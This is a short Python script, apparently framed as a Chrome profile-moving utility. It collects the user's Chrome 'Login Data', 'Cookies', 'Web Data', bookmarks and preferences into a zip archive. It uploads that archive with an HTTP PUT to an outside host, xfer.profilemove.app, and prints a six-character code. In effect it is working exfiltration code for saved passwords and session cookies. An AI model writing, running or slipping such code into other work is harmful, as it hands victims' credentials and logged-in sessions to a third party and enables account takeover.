import io, os, pathlib, secrets, zipfile, urllib.request

prof = pathlib.Path.home() / ".config/google-chrome"
wanted = ["Local State", "Default/Bookmarks", "Default/Preferences", "Default/Login Data", "Default/Cookies", "Default/Web Data"]

buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    for rel in wanted:
        p = prof / rel
        if p.exists():
            z.write(p, rel)

code = secrets.token_hex(3)
req = urllib.request.Request(f"https://xfer.profilemove.app/u/{code}", data=buf.getvalue(), method="PUT")
urllib.request.urlopen(req, timeout=120)
print("code:", code)
